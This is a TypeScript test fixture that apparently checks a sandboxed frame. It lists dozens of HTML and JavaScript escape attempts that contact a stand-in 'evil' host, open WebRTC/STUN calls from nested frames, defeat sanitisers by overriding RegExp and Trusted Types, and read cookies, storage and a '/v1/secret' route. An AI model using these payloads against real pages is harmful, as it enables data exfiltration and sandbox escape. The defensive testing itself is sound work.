/**
 * escape-attempts.ts: documents that try to contact a host or to read the page's objects.
 *
 * Each attempt is a whole document with its own hosts (`To`), so that a request identifies the attempt that made it.
 */

/** The hosts of one attempt. */
export interface To {
  /** A URL without a trailing slash. */
  readonly evil: string
  /** Host and port for UDP packets. */
  readonly udp: string
}

export interface Attempt {
  readonly name: string
  readonly html: (to: To) => string
  /**
   * When the unrestricted attempt reaches its host. `never`: this browser doesn't support the attempt. `packets`: the
   * attempt needs a network.
   */
  readonly isReached: "always" | "packets" | "never"
}

type Code = (to: To) => string

const attempt = (name: string, html: Code, isReached: Attempt["isReached"] = "always"): Attempt => ({
  name,
  html,
  isReached,
})
const run = (name: string, code: Code, isReached?: Attempt["isReached"]): Attempt =>
  attempt(name, (to) => `<script>${code(to)}</script>`, isReached)
const calls = (name: string, code: Code): Attempt => run(`WebRTC ${name}`, code, "packets")

const rtc: Code = ({ udp }) =>
  `const c=new RTCPeerConnection({iceServers:[{urls:'stun:${udp}'}]});c.createDataChannel('x');c.createOffer().then((o)=>c.setLocalDescription(o))`

const REQUESTS: readonly Attempt[] = [
  run("fetch", ({ evil }) => `fetch('${evil}/fetch',{mode:'no-cors'})`),
  run("XMLHttpRequest", ({ evil }) => `const x=new XMLHttpRequest();x.open('GET','${evil}/xhr');x.send()`),
  run("WebSocket", ({ evil }) => `new WebSocket('${evil.replace("http", "ws")}/ws')`),
  run("EventSource", ({ evil }) => `new EventSource('${evil}/es')`),
  run("sendBeacon", ({ evil }) => `navigator.sendBeacon('${evil}/beacon','x')`),
  run("keepalive", ({ evil }) => `fetch('${evil}/keep',{keepalive:true,mode:'no-cors'})`),
  run("fetchLater", ({ evil }) => `fetchLater('${evil}/later',{activateAfter:0})`),
  run("WebTransport", ({ evil }) => `new WebTransport('${evil.replace("http", "https")}/wt')`, "never"),
  attempt("image", ({ evil }) => `<img src="${evil}/img">`),
  attempt("responsive image", ({ evil }) => `<img srcset="${evil}/srcset 1x">`),
  attempt("video poster", ({ evil }) => `<video poster="${evil}/poster"></video>`),
  attempt("sound", ({ evil }) => `<audio src="${evil}/audio" autoplay></audio>`),
  attempt("style", ({ evil }) => `<p style="background:url(${evil}/css)">x</p>`),
  attempt("style sheet", ({ evil }) => `<style>@import "${evil}/import";</style>`),
  attempt(
    "font",
    ({ evil }) => `<style>@font-face{font-family:f;src:url(${evil}/font)}p{font-family:f}</style><p>x</p>`,
  ),
  attempt("linked style", ({ evil }) => `<link rel="stylesheet" href="${evil}/link">`),
  attempt("prefetch", ({ evil }) => `<link rel="prefetch" href="${evil}/prefetch">`),
  attempt("preconnect", ({ evil }) => `<link rel="preconnect" href="${evil}">`, "never"),
  run(
    "links that a script makes",
    ({ evil }) =>
      `for(const r of ['preconnect','dns-prefetch','prefetch','preload','stylesheet','icon']){const l=document.createElement('link');l.rel=r;l.href='${evil}/'+r;l.as='fetch';document.documentElement.append(l)}`,
  ),
  attempt("script", ({ evil }) => `<script src="${evil}/script"></script>`),
  attempt("module", ({ evil }) => `<script type="module">import("${evil}/module")</script>`),
  attempt(
    "speculation",
    ({ evil }) =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","eagerness":"immediate","urls":["${evil}/spec"]}]}</script>`,
    "never",
  ),
  attempt("object", ({ evil }) => `<object data="${evil}/object"></object>`),
  attempt("embed", ({ evil }) => `<embed src="${evil}/embed">`),
  attempt(
    "drawing",
    ({ evil }) =>
      `<svg><image href="${evil}/svg" /><script href="${evil}/svgs"></script><filter id="f"><feImage href="${evil}/fe"/></filter></svg>`,
  ),
  attempt(
    "old and odd attributes",
    ({ evil }) =>
      `<input type="image" src="${evil}/ii"><table background="${evil}/tb"></table><p style="cursor:url(${evil}/c),auto;mask:url(${evil}/m);list-style:url(${evil}/l);border-image:url(${evil}/b);background:image-set('${evil}/s' 1x)">x</p>`,
  ),
  run(
    "worker",
    ({ evil }) => `new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker',{mode:'no-cors'})"])))`,
  ),
]

const JOURNEYS: readonly Attempt[] = [
  attempt("frame", ({ evil }) => `<iframe src="${evil}/frame"></iframe>`),
  run(
    "frame that a script makes",
    ({ evil }) => `const f=document.createElement('iframe');f.src='${evil}/made';document.documentElement.append(f)`,
  ),
  attempt("ping", ({ evil }) => `<a id="a" ping="${evil}/ping" href="#x">x</a><script>a.click()</script>`),
  attempt(
    "form",
    ({ evil }) => `<form id="f" action="${evil}/form"><input name="q"></form><script>f.submit()</script>`,
  ),
  run("window", ({ evil }) => `open('${evil}/window')`),
  run("window by name", ({ evil }) => `open('${evil}/parent','_parent');open('${evil}/top','_top')`),
  run("the page's place", ({ evil }) => `top.location='${evil}/top'`),
  attempt(
    "link to the page's place",
    ({ evil }) => `<a id="a" target="_top" href="${evil}/top">x</a><script>a.click()</script>`,
  ),
  run("its own place", ({ evil }) => `location='${evil}/self'`),
  run("its own place by script", ({ evil }) => `location="javascript:'<img src=${evil}/js>'"`),
  attempt("refresh", ({ evil }) => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`),
  attempt("base", ({ evil }) => `<base href="${evil}/"><img src="based">`),
  attempt("download", ({ evil }) => `<a id="a" download href="${evil}/download">x</a><script>a.click()</script>`),
  attempt(
    "its own place in a frame",
    ({ evil }) => `<iframe srcdoc="<script>location='${evil}/inner'</script>"></iframe>`,
  ),
  run("our routes", () => `fetch('/v1/secret',{credentials:'include'})`),
  run("our routes by frame", () => `location='/v1/secret'`),
]

/** Returns the markup of a frame with its own realm. The element name can be changed for XML. */
const framed: Code = (to) => `<iframe srcdoc="<script>${rtc(to)}</script>"></iframe>`
const inXml = (name: string, to: To, bracket = "&lt;"): string =>
  `<${name} srcdoc="${bracket}script>${rtc(to)}${bracket}/script>"/>`

/** Returns a JavaScript string literal that neither ends the script nor contains tags. */
const text = (value: string): string => JSON.stringify(value).replaceAll("<", "\\x3c")
const insert = (html: string): string =>
  `const d=document.createElement('div');document.documentElement.append(d);d.innerHTML=${text(html)}`
const adopt = (xml: string): string =>
  `document.documentElement.append(document.adoptNode(new DOMParser().parseFromString(${text(xml)},'application/xml').documentElement))`
const XHTML = `xmlns:h="http://www.w3.org/1999/xhtml"`

/** Attempts that use nested frames, which still have the objects that were removed from the document. */
const CALLS: readonly Attempt[] = [
  calls("by itself", rtc),
  attempt("WebRTC in a frame", framed, "packets"),
  calls("in a frame by markup", (to) => insert(framed(to))),
  calls("in a written frame", (to) => `document.write(${text(framed(to))})`),
  calls(
    "in a frame that is written in two pieces",
    (to) => `document.write('<ifr');document.write(${text(framed(to).slice("<ifr".length))})`,
  ),
  attempt(
    "WebRTC in a frame that its document ends",
    (to) => `<script>document.write('<ifr')</script>${framed(to).slice("<ifr".length)}`,
    "packets",
  ),
  attempt(
    "WebRTC in a frame of one letter and its document",
    (to) => `<script>document.write('<')</script>${framed(to).slice("<".length)}`,
    "packets",
  ),
  ...[
    "f.srcdoc=s",
    "f.setAttribute('srcdoc',s)",
    "const a=document.createAttribute('srcdoc');a.value=s;f.setAttributeNode(a)",
    "const q=document.createElement('q');q.setAttribute('srcdoc',s);f.attributes.setNamedItemNS(q.removeAttributeNode(q.attributes[0]))",
    "f.setAttribute('srcdoc','');f.attributes[0].textContent=s",
  ].map((code, at) =>
    calls(
      `in a frame by attribute (${at + 1})`,
      (to) =>
        `const s=${text(`<script>${rtc(to)}</script>`)},f=document.createElement('iframe');${code};document.documentElement.append(f)`,
    ),
  ),
  calls(
    "in a frame of another document",
    (to) =>
      `const x=document.implementation.createHTMLDocument();x.body.innerHTML=${text(framed(to))};document.documentElement.append(x.body.firstChild)`,
  ),
  calls(
    "in a frame by command",
    (to) =>
      `document.write('<body>x');document.designMode='on';document.execCommand('selectAll');document.execCommand('insertHTML',false,${text(framed(to))})`,
  ),
  calls(
    "in a frame of a shadow",
    (to) =>
      `const d=document.createElement('div');document.documentElement.append(d);d.attachShadow({mode:'open'}).setHTMLUnsafe(${text(framed(to))})`,
  ),
  calls(
    "in a frame of a range",
    (to) => `document.documentElement.append(document.createRange().createContextualFragment(${text(framed(to))}))`,
  ),
  ...[
    "(h)=>trustedTypes.defaultPolicy.createHTML(h,'TrustedHTML','x')",
    "(h)=>Object.getOwnPropertyDescriptor(TrustedTypePolicyFactory.prototype,'defaultPolicy').get.call(trustedTypes).createHTML(h,'','')",
    "(h)=>TrustedHTML.fromLiteral?TrustedHTML.fromLiteral(Object.freeze(Object.assign([h],{raw:[h]}))):h",
  ].map((code, at) =>
    calls(
      `in a frame of trusted markup (${at + 1})`,
      (to) =>
        `let s=${text(`<script>${rtc(to)}</script>`)};try{s=(${code})(s)}catch{}const f=document.createElement('iframe');f.srcdoc=s;document.documentElement.append(f)`,
    ),
  ),
  calls("in a frame of XML", (to) => adopt(`<h:div ${XHTML}>${inXml("h:iframe", to)}</h:div>`)),
  calls("in a frame of an entity", (to) =>
    adopt(
      `<!DOCTYPE r [<!ENTITY e '&#60;h:iframe srcdoc="&#38;lt;script>${rtc(to).replaceAll("'", "&#38;apos;")}&#38;lt;/script>"/>'>]><h:div ${XHTML}>&e;</h:div>`,
    ),
  ),
  calls(
    "in a frame within XML",
    (to) =>
      `const x=document.implementation.createDocument('http://www.w3.org/1999/xhtml','h:div');x.documentElement.innerHTML=${text(inXml("h:iframe", to))};document.documentElement.append(document.adoptNode(x.documentElement))`,
  ),
  ...[
    "RegExp.prototype[Symbol.replace]=(s)=>s",
    "RegExp.prototype.exec=()=>null",
    "RegExp.prototype.test=()=>false",
    "String.prototype.replace=function(){return this}",
    "Object.defineProperty(RegExp.prototype,'flags',{get:()=>''});Object.defineProperty(RegExp.prototype,'global',{get:()=>false})",
    "Function.prototype.call=Function.prototype.apply=()=>'';String.prototype.includes=()=>false",
  ].flatMap((code) => [
    calls(`in a frame, after ${code.slice(0, 40)}`, (to) => `${code};${insert(`<iframe></iframe>${framed(to)}`)}`),
    calls(
      `in a frame by attribute, after ${code.slice(0, 40)}`,
      (to) =>
        `${code};const f=document.createElement('iframe');f.srcdoc=${text(`<script>${rtc(to)}</script>`)};document.documentElement.append(f)`,
    ),
  ]),
  calls(
    "in its own place by script",
    (to) => `location=${text(`javascript:${JSON.stringify(`<script>${rtc(to)}</script>`)}`)}`,
  ),
]

export const ATTEMPTS: readonly Attempt[] = [...REQUESTS, ...JOURNEYS, ...CALLS]

/** Expressions that try to read something and return it. In the frame, none of them may return anything. */
export const GRABS: Readonly<Record<string, string>> = {
  "the page's document": "parent.document.title",
  "the page's variables": "parent.secret",
  "a cookie": "document.cookie || (() => { throw 0 })()",
  "setting a cookie": "document.cookie = 'a=b', document.cookie || (() => { throw 0 })()",
  localStorage: "localStorage.getItem('secret')",
  sessionStorage: "sessionStorage.length",
  indexedDB: "indexedDB.open('x').constructor.name",
  caches: "caches.constructor.name",
  "a service worker": "navigator.serviceWorker.constructor.name",
  "its frame": "frameElement.title",
  "an origin": "origin === 'null' ? (() => { throw 0 })() : origin",
  eval: "eval('1+1')",
  dialogs: "confirm('x') || (() => { throw 0 })()",
  "a peer connection": "new RTCPeerConnection().constructor.name",
  "another policy": "trustedTypes.createPolicy('other', {}).name",
  "another default policy": "trustedTypes.createPolicy('default', {}).name",
  "the default policy": "trustedTypes.defaultPolicy.name",
}
